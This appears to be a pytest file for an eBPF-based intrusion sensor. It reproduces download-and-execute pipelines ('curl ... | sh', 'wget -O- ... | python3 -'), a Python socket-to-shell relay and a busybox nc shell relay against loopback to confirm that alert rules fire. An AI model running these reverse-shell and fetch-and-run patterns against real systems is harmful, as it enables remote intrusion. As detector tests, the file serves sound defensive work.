"""Real eBPF: who holds the other end of a shell's stdio pipes (curl | sh, pipe relays)."""

from __future__ import annotations

import contextlib
import shutil
import socket
import subprocess
import sys
import tempfile
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from tests.sensors.conftest import Collector

pytestmark = pytest.mark.ebpf


@contextlib.contextmanager
def polling(collector: Collector) -> Iterator[None]:
    """Keep reading the ring buffer while a trigger runs, as the sensor daemon does (the
    stdio-peer facts are read from /proc while the shell is alive)."""
    stop = threading.Event()
    errors: list[BaseException] = []

    def run() -> None:
        try:
            while not stop.is_set():
                collector.program.poll()
                time.sleep(0.005)
        except BaseException as exc:  # surfaced in the test, not lost in the thread
            errors.append(exc)

    t = threading.Thread(target=run, daemon=True)
    t.start()
    try:
        yield
    finally:
        stop.set()
        t.join()
    if errors:
        raise errors[0]


def _engine() -> Any:
    from memtrail.core.settings import DEFAULT_PATTERNS_DIR
    from patterns.engine.assemble import build_engine

    return build_engine([DEFAULT_PATTERNS_DIR], [])


def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])


SLOW_SERVER = r"""
import http.server, sys, time
class H(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        body = open(sys.argv[2] + self.path, "rb").read()
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        half = len(body) // 2
        self.wfile.write(body[:half]); self.wfile.flush()
        time.sleep(1.5)  # a slow link: the download takes a while, as real payloads do
        self.wfile.write(body[half:])
    def log_message(self, *a): pass
http.server.HTTPServer(("127.0.0.1", int(sys.argv[1])), H).serve_forever()
"""


@pytest.fixture(scope="module")
def web(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[int, Path]]:
    """A script served over loopback, as an attacker's staging server would (slowly)."""
    d = tmp_path_factory.mktemp("www")
    (d / "s.sh").write_text("# payload stage\n" * 8 + "sleep 1; echo curl-sh-ran\n")
    (d / "s.py").write_text("# payload stage\n" * 8 + "import time; time.sleep(1); print('wget-py-ran')\n")
    port = _free_port()
    srv = subprocess.Popen(
        [sys.executable, "-c", SLOW_SERVER, str(port), str(d)],
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    deadline = time.monotonic() + 10
    while time.monotonic() < deadline:
        try:
            socket.create_connection(("127.0.0.1", port), timeout=0.2).close()
            break
        except OSError:
            time.sleep(0.05)
    try:
        yield port, d
    finally:
        srv.terminate()
        srv.wait()


def _renamed(src: str, name: str) -> Path:
    d = Path(tempfile.mkdtemp(prefix="mt-peer-", dir="/tmp"))
    shutil.copy2(src, d / name)
    return d / name


def _tree(collector: Collector, root: int, done: Any) -> list[dict[str, Any]]:
    """The events of ``root`` and its descendants, once ``done`` is among them."""
    deadline = time.monotonic() + 20
    while True:
        collector.program.poll()
        pids = {root}
        for e in collector.events:
            if e["syscall"] == "process_fork" and e["process"]["pid"] in pids:
                pids.add(e["args"]["child_pid"])
        mine = [e for e in collector.events if e["process"]["pid"] in pids]
        if any(done(e) for e in mine) or time.monotonic() > deadline:
            return sorted(mine, key=lambda e: e["ts_ns"])
        time.sleep(0.05)


def _exits(pid: int) -> Any:
    return lambda e: e["syscall"] == "process_exit" and e["process"]["pid"] == pid


@pytest.mark.parametrize(
    ("tool", "fetch", "reader", "script", "marker"),
    [
        ("/usr/bin/curl", "{t} -s http://127.0.0.1:{port}/s.sh", "sh", "s.sh", "curl-sh-ran"),
        # busybox told by argv to be sh: comm "busybox", the applet from argv[1]
        ("/usr/bin/curl", "{t} -s http://127.0.0.1:{port}/s.sh", "busybox sh", "s.sh", "curl-sh-ran"),
        (
            "/usr/bin/wget",
            "{t} -q -O- http://127.0.0.1:{port}/s.py",
            "/usr/bin/python3 -",
            "s.py",
            "wget-py-ran",
        ),
    ],
)
def test_download_piped_into_a_shell_by_a_renamed_downloader(
    collector: Collector, web: tuple[int, Path], tool: str, fetch: str, reader: str, script: str, marker: str
) -> None:
    port, _ = web
    x1 = _renamed(tool, "x1")
    try:
        cmd = f"{fetch.format(t=x1, port=port)} | {reader}"
        with polling(collector):
            p = subprocess.Popen(["/bin/bash", "-c", cmd], stdout=subprocess.PIPE, text=True)
            out, _ = p.communicate(timeout=30)
        assert marker in out
        events = _tree(collector, p.pid, _exits(p.pid))
    finally:
        shutil.rmtree(x1.parent)
    downloader = [e for e in events if e["syscall"] == "execve" and e["args"]["filename"] == str(x1)]
    assert downloader
    dl_pid = downloader[0]["process"]["pid"]
    name = reader.split()[0]
    readers = [
        e
        for e in events
        if e["syscall"] == "execve" and e["process"]["pid"] != dl_pid and e["args"]["argv"][:1] == [name]
    ]
    assert readers, [(e["syscall"], e["args"].get("argv")) for e in events]
    stdio = readers[0]["args"]["stdio"]
    assert stdio["stdin"] == "pipe" and stdio["reads_program_from_stdin"] is True
    peer = stdio["stdin_peer"]
    assert peer["pid"] == dl_pid and peer["entity_id"] == downloader[0]["process"]["entity_id"]
    # either the downloader had connected when the reader started, or its connect names the reader
    connects = [e for e in events if e["syscall"] == "connect" and e["process"]["pid"] == dl_pid]
    assert peer["net"] or any(
        (c["args"].get("stdio_peer_of") or {}).get("pid") == readers[0]["process"]["pid"] for c in connects
    )
    alerts = [a for a in _engine().process_batch(events) if a.rule.id == "MT-NET-006"]
    assert alerts, "no MT-NET-006"
    assert {"T1059.004", "T1105"} <= set(alerts[0].threat.technique.id)


RELAY = r"""
import socket, subprocess, sys
s = socket.create_connection(("127.0.0.1", int(sys.argv[1])))
sh = subprocess.Popen(["/bin/sh"], stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
f = s.makefile("rb")
for line in f:
    sh.stdin.write(line); sh.stdin.flush()
    if line.strip() == b"exit":
        break
sh.stdin.close()
s.sendall(sh.stdout.read())
sh.wait()
"""


def _listener() -> tuple[socket.socket, int]:
    srv = socket.socket()
    srv.bind(("127.0.0.1", 0))
    srv.listen(1)
    return srv, int(srv.getsockname()[1])


def _operator(
    srv: socket.socket, commands: bytes, got: list[bytes], until: bytes | None = None
) -> threading.Thread:
    """The attacker's end: wait for the shell, type commands, collect output (until
    ``until`` or EOF), hang up."""

    def run() -> None:
        srv.settimeout(20)
        conn, _ = srv.accept()
        with conn:
            time.sleep(0.5)
            conn.sendall(commands)
            conn.settimeout(20)
            buf = b""
            while chunk := conn.recv(4096):
                buf += chunk
                if until and until in buf:
                    break
            got.append(buf)

    t = threading.Thread(target=run, daemon=True)
    t.start()
    return t


def test_python_relay_holding_the_socket_pipes_to_a_shell(collector: Collector) -> None:
    srv, port = _listener()
    got: list[bytes] = []
    t = _operator(srv, b"sleep 0.3\necho relay-ran\nexit\n", got)
    with polling(collector):
        p = subprocess.Popen([sys.executable, "-c", RELAY, str(port)])
        assert p.wait(30) == 0
        t.join(20)
    srv.close()
    assert got and b"relay-ran" in got[0]
    events = _tree(collector, p.pid, _exits(p.pid))
    sh = [e for e in events if e["syscall"] == "execve" and e["args"]["argv"] == ["/bin/sh"]]
    assert sh
    stdio = sh[0]["args"]["stdio"]
    assert stdio["stdin"] == stdio["stdout"] == "pipe" and stdio["network"] == []
    for side in ("stdin_peer", "stdout_peer"):
        assert stdio[side]["pid"] == p.pid and stdio[side]["net"] is True, stdio
    alerts = [a for a in _engine().process_batch(events) if a.rule.id == "MT-NET-007"]
    assert alerts and alerts[0].rule.severity == "critical"
    assert {"T1059.004", "T1095"} <= set(alerts[0].threat.technique.id)


def test_nc_pipe_relay_around_a_shell(collector: Collector) -> None:
    """nc host p1 | sh | nc host p2 (busybox nc, as on a minimal image): the attacker types
    into one connection and reads the other."""
    srv_in, p_in = _listener()
    srv_out, p_out = _listener()
    got: list[bytes] = []
    done = threading.Event()

    def typist() -> None:
        srv_in.settimeout(20)
        conn, _ = srv_in.accept()
        with conn:
            time.sleep(0.5)
            conn.sendall(b"echo nc-relay-ran\n")
            done.wait(20)

    t_in = threading.Thread(target=typist, daemon=True)
    t_in.start()
    t_out = _operator(srv_out, b"", got, until=b"nc-relay-ran")
    cmd = f"busybox nc 127.0.0.1 {p_in} | sh | busybox nc 127.0.0.1 {p_out}"
    with polling(collector):
        p = subprocess.Popen(["/bin/bash", "-c", cmd], stdin=subprocess.PIPE)
        try:
            t_out.join(20)
            done.set()
            t_in.join(5)
            assert p.stdin is not None
            p.stdin.close()
            p.wait(20)
        finally:
            if p.poll() is None:
                p.kill()
                p.wait()
            srv_in.close()
            srv_out.close()
    assert got and b"nc-relay-ran" in got[0]
    events = _tree(collector, p.pid, _exits(p.pid))
    sh = [e for e in events if e["syscall"] == "execve" and e["args"]["argv"] == ["sh"]]
    assert sh
    shell = sh[0]["process"]
    ncs = {e["process"]["pid"] for e in events if e["syscall"] == "connect"}
    assert len(ncs) == 2
    # each nc is named as the shell's peer: at the shell's exec, or on its own connect
    stdio = sh[0]["args"]["stdio"]
    named = {stdio[k]["pid"] for k in ("stdin_peer", "stdout_peer") if k in stdio}
    named |= {
        e["process"]["pid"]
        for e in events
        if e["syscall"] == "connect" and (e["args"].get("stdio_peer_of") or {}).get("pid") == shell["pid"]
    }
    assert ncs <= named, (stdio, [e["args"] for e in events if e["syscall"] == "connect"])
    alerts = [a for a in _engine().process_batch(events) if a.rule.id == "MT-NET-007"]
    assert alerts and {"T1059.004", "T1095"} <= set(alerts[0].threat.technique.id)


RUNNER = r"""
import socket, subprocess, sys
s = socket.create_connection(("127.0.0.1", int(sys.argv[1])))  # the job server
step = sys.argv[2]
p = subprocess.Popen(["/bin/bash", "-e", step], stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
s.sendall(p.stdout.read())
p.stdin.close()
sys.exit(p.wait())
"""


def test_ci_runner_shape_stays_quiet(collector: Collector, tmp_path: Path) -> None:
    """A connected runner that runs a job step from a script file with piped stdio (GitHub,
    Jenkins, Buildkite agents) and `... | sh` with a local producer: no alert at warning+."""
    step = tmp_path / "step.sh"
    # A job step lasts: the runner holds bash's stdin pipe while the sensor, which names pipe
    # peers at decode time from /proc, looks (a 10 ms step could be gone first on a busy node).
    step.write_text("echo building; sleep 1; cat /etc/hostname | sh -c 'wc -l' >/dev/null; echo done\n")
    srv, port = _listener()
    got: list[bytes] = []
    t = _operator(srv, b"", got)
    with polling(collector):
        runner = tmp_path / "runner.py"  # an agent installed as a program, not a one-liner
        runner.write_text(RUNNER)
        p = subprocess.Popen([sys.executable, str(runner), str(port), str(step)])
        assert p.wait(30) == 0
        t.join(20)
        q = subprocess.run(["/bin/bash", "-c", "printf 'echo local\\n' | sh"], capture_output=True, text=True)
        assert q.stdout.strip() == "local"
    srv.close()
    assert got and b"done" in got[0]
    events = _tree(collector, p.pid, _exits(p.pid)) + _tree(
        collector, q_pid := _pid_of(collector, q.args), _exits(q_pid)
    )
    bash = [e for e in events if e["syscall"] == "execve" and e["args"]["argv"][:2] == ["/bin/bash", "-e"]]
    assert bash and bash[0]["args"]["stdio"]["stdin_peer"]["net"] is True  # the facts are there
    assert bash[0]["args"]["stdio"]["reads_program_from_stdin"] is False
    loud = [
        (a.rule.id, a.rule.severity)
        for a in _engine().process_batch(sorted(events, key=lambda e: e["ts_ns"]))
        if a.rule.severity != "info"
    ]
    assert loud == []


def _pid_of(collector: Collector, argv: list[str]) -> int:
    found = [e for e in collector.events if e["syscall"] == "execve" and e["args"]["argv"] == argv]
    assert found
    return int(found[-1]["process"]["pid"])
